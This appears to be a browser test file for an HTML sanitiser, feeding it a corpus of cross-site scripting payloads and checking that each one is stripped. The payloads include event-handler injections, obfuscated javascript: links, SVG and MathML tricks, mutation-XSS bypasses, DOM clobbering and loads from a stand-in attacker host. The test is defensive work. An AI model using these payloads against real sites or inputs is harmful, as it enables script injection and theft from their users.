import { expect } from '@open-wc/testing';
import { checkSanitizer, sanitize } from './html-safe.js';

/** What is left of markup, as markup. */
function left(markup: string): string {
  const box = document.createElement('div');
  box.append(sanitize(markup));
  return box.innerHTML;
}

const run = 'window.taken = (window.taken ?? 0) + 1';

/** Ways to run something, to load something, or to be taken for a part of the page. */
const corpus: Record<string, string> = {
  script: `<script>${run}</script>`,
  'script by address': '<script src="https://evil.example/x.js"></script>',
  'script in svg': `<svg><script>${run}</script></svg>`,
  'script of another type': `<script type="module">${run}</script>`,
  'image that fails': `<img src=x onerror="${run}">`,
  'image that fails, odd spelling': `<IMG """><SCRIPT>${run}</SCRIPT>"\\><image src=x OnErRoR=${run}>`,
  'slash in place of space': `<img/src="x"/onerror="${run}">`,
  'svg onload': `<svg onload="${run}"><path d="M0 0"/></svg>`,
  'svg animate': `<svg><animate onbegin="${run}" attributeName=x dur=1s><set attributeName="href" to="javascript:${run}"/></svg>`,
  'svg use': '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>1</script></svg>#x"></use></svg>',
  'svg foreignObject': `<svg><foreignObject><iframe srcdoc="<script>${run}</script>"></iframe></foreignObject></svg>`,
  'svg link': `<svg><a xlink:href="javascript:${run}"><text y="20">click</text></a></svg>`,
  math: `<math href="javascript:${run}">click</math><math><mtext><img src=x onerror="${run}"></mtext></math>`,
  'math annotation': `<math><annotation-xml encoding="text/html"><script>${run}</script></annotation-xml></math>`,
  iframe: `<iframe src="javascript:${run}"></iframe><iframe srcdoc="<script>parent.taken=1</script>"></iframe>`,
  object: `<object data="javascript:${run}"></object><embed src="javascript:${run}"><applet code=x></applet>`,
  'body onload': `<body onload="${run}"><p onclick="${run}" onpointerenter='${run}'>x</p>`,
  focus: `<input autofocus onfocus="${run}"><details open ontoggle="${run}">x</details><p tabindex=0 onfocus=1 autofocus>x</p>`,
  'animation event': `<p style="animation:x" onanimationstart="${run}">x</p><style>@keyframes x{}</style>`,
  'video and audio': `<video src=x onerror="${run}"></video><audio src="https://evil.example/a" autoplay></audio><video><source onerror="${run}"></video>`,
  'javascript: link': `<a href="javascript:${run}">x</a>`,
  'javascript: link, hidden': `<a href="  java&#x09;scr&NewLine;ipt&colon;${run}">x</a><a href="\u0001javascript:${run}">x</a><a href="JaVaScRiPt:${run}">x</a><a href="javascript&#0000058alert(1)">x</a>`,
  'data: link': '<a href="data:text/html,<script>1</script>">x</a><a href="DATA:text/html;base64,PHNjcmlwdD4=">x</a>',
  'vbscript:, file: and blob: links': '<a href="vbscript:x">x</a><a href="file:///etc/passwd">x</a><a href="blob:https://example.org/1">x</a>',
  'schemes with a digit': '<a href="ed2k://|file|x|1|0|/">x</a><a href="web3://x.eth">x</a><a href="h323:x">x</a><a href="WEB3:x">x</a><a href="&#9;e&#10;d2k:x">x</a><a href="x-y.z+1:2">x</a>',
  'addresses that browsers read in their own way': '<a href="https://[">x</a><a href="\\\\:x">x</a><a href="ma&Tab;ilto2:x">x</a><a href="\u00a0javascript:1">x</a><a href="\u2028web3:1">x</a>',
  'addresses of what is no link': '<p href="https://evil.example">x</p><b href="/x">y</b>',
  'data: image': '<img src="data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=alert(1)>" alt="a picture">',
  'foreign images': '<img src="https://evil.example/pixel.png" srcset="https://evil.example/2.png 2x" alt="seen"><picture><source srcset="https://evil.example/3.png"><img alt="me"></picture>',
  'style element': '<style>body{display:none}@import "https://evil.example/x.css"</style><link rel=stylesheet href="https://evil.example/x.css">',
  'style attribute': '<p style="position:fixed;inset:0;background:url(https://evil.example/x)">over the page</p>',
  'classes and parts of the kit': '<p class="note scroll" part="base" slot="empty" is="x-y" exportparts="a">x</p>',
  form: '<form action="https://evil.example"><input name=password><button formaction="javascript:1">Sign in</button><textarea>x</textarea><select><option>1</select></form>',
  'clobbered DOM': '<form id=attributes><input name=attributes></form><a id=config name=config href="https://evil.example">x</a><img name=body><p id="__proto__" id=x>y</p>',
  'clobbered nodes': '<form><input name="nodeName"><input name="parentNode"><input name="ownerDocument"><input id="children"></form>',
  base: '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=https://evil.example"><title>x</title>',
  template: `<template><img src=x onerror="${run}"></template><template shadowrootmode="open"><script>${run}</script></template>`,
  'custom elements': '<rm-python src="https://evil.example/x.py"></rm-python><rm-embed src="https://evil.example"></rm-embed><x-y onclick=1></x-y><p is="x-y">z</p>',
  portal: '<portal src="https://evil.example"></portal><fencedframe></fencedframe><dialog open>over</dialog><p popover id=p>x</p>',
  'data attributes and roles': '<p data-rm="pipeline" aria-live="assertive" role="alert" accesskey="x" contenteditable draggable=true>x</p>',
  'mutation: noscript': `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  'mutation: style in math': `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
  'mutation: svg and p': `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`,
  'mutation: form in form': `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${run}>`,
  'mutation: textarea': `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
  'mutation: comment': `<!--><img src=x onerror=${run}>--><!--!><img src=x onerror=${run}>--><![CDATA[<img src=x onerror=${run}>]]>`,
  'mutation: select and xmp': `<select><xmp></select><img src=x onerror=${run}></xmp><plaintext><img src=x onerror=${run}>`,
  'mutation: desc': `<svg><desc><img src=x onerror=${run}></desc><title><style></title><img src=x onerror=${run}></style></svg>`,
  'an open tag': `<img src=x onerror="${run}" <p>x`,
  'processing instruction': `<?xml-stylesheet href="javascript:${run}"?><?php echo 1 ?><p>x</p>`,
};

const allowedTags = /^(a|abbr|b|bdi|bdo|blockquote|br|caption|cite|code|dd|del|details|dfn|div|dl|dt|em|figcaption|figure|h[1-6]|hr|i|ins|kbd|li|mark|ol|p|pre|q|rp|rt|ruby|s|samp|small|span|strong|sub|summary|sup|table|tbody|td|tfoot|th|thead|time|tr|u|ul|var|wbr)$/;
const allowedAttributes = /^(alt|colspan|datetime|dir|href|lang|open|reversed|rowspan|scope|start|title|value|target|rel)$/;

/** What is there that must not be. */
function wrong(root: ParentNode): string[] {
  const found: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    if (element.namespaceURI !== 'http://www.w3.org/1999/xhtml' || !allowedTags.test(element.localName)) found.push(element.outerHTML);
    for (const { name, value } of element.attributes) {
      if (!allowedAttributes.test(name)) found.push(`${element.localName} ${name}="${value}"`);
      if (name === 'href' && element.localName !== 'a') found.push(`${element.localName} ${name}`);
      if (name === 'href' && !['http:', 'https:', 'mailto:'].includes((element as HTMLAnchorElement).protocol)) found.push(value);
    }
  }
  return found;
}

describe('markup that is sanitised', () => {
  it('can be on this page', () => checkSanitizer());

  for (const [name, markup] of Object.entries(corpus)) {
    it(`loses: ${name}`, async () => {
      const asked: string[] = [];
      const observer = new PerformanceObserver((list) => asked.push(...list.getEntries().map((entry) => entry.name)));
      observer.observe({ type: 'resource' });
      const box = document.createElement('div');
      document.body.append(box);
      try {
        box.append(sanitize(markup));
        expect(wrong(box)).to.deep.equal([]);
        // Written out and read again it must not become something else.
        const again = sanitize(box.innerHTML);
        expect(wrong(again)).to.deep.equal([]);
        const parsed = new DOMParser().parseFromString(box.innerHTML, 'text/html');
        expect(wrong(parsed.body)).to.deep.equal([]);
        for (const element of box.querySelectorAll<HTMLElement>('*')) for (const type of ['click', 'focus', 'toggle', 'error']) element.dispatchEvent(new Event(type, { cancelable: true }));
        await new Promise((done) => setTimeout(done, 20));
        expect(window).not.to.have.property('taken');
        expect([...asked, ...observer.takeRecords().map((entry) => entry.name)].filter((url) => /evil|\/x$/.test(url))).to.deep.equal([]);
      } finally {
        observer.disconnect();
        box.remove();
      }
    });
  }

  it('keeps text, structure and links', () => {
    const markup =
      '<h2>Title</h2><p lang="de" dir="ltr">Some <b>bold</b>, <em>and</em> <code>code</code><br>&lt;b&gt;</p><ol start="3"><li value="5">x</li></ol><table><tbody><tr><th scope="row">a</th><td colspan="2">b</td></tr></tbody></table><details open=""><summary>more</summary>text</details><time datetime="2026-01-01">now</time>';
    expect(left(markup)).to.equal(markup);
    expect(left('plain text')).to.equal('plain text');
    expect(left('')).to.equal('');
    expect(left('  spaced <b>x</b> ')).to.equal('  spaced <b>x</b> ');
  });

  it('has links open in a tab of their own that cannot reach this one', () => {
    for (const href of ['https://example.org/a?b=1#c', 'http://example.org', 'mailto:a@example.org', '/page', 'page.html', '//example.org', '?page=2', 'h2o', 'web3/x:y', '2:1']) {
      expect(left(`<a href="${href}" target="_self" rel="opener" ping="https://evil.example" download>x</a>`)).to.equal(`<a href="${href}" target="_blank" rel="noopener noreferrer">x</a>`);
    }
    expect(left('<a href="#main">x</a>')).to.equal('<a>x</a>');
  });

  it('says of images what stands for them', () => {
    expect(left('<p>A <img src="https://example.org/x.png" alt="red <b>square</b>">.</p>')).to.equal('<p>A red &lt;b&gt;square&lt;/b&gt;.</p>');
  });

  it('gives nodes of this document', () => {
    expect(sanitize('<p>x</p>').firstElementChild?.ownerDocument).to.equal(document);
  });

  it('takes what is deep, long or cut off', () => {
    expect(sanitize('<div>'.repeat(5000) + 'x').textContent).to.equal('x');
    expect(sanitize('<b>x</b>'.repeat(5000)).childNodes.length).to.equal(5000);
    for (let end = 0; end < 60; end += 1) expect(wrong(sanitize(corpus['mutation: style in math']!.slice(0, end)))).to.deep.equal([]);
  });
});
